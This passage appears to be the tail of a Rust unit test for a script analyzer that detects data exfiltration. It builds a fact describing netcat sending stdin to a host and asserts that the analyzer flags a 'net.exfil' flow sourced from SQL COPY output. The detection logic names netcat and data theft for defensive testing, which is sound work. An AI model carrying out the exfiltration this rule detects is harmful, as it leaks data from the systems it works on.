        a.push(Fact::new("net.send", "nc", Span::new(33, 39)).with("program", "nc").with("host", "h").with("stdin", true));
        flows(&mut a, &sc, &[0..1, 1..2]);
        let ex: Vec<_> = a.facts.iter().filter(|f| f.kind == "net.exfil").collect();
        assert_eq!(ex.len(), 1);
        assert_eq!(ex[0].attrs["source"], "sql_copy_out");
    }
}
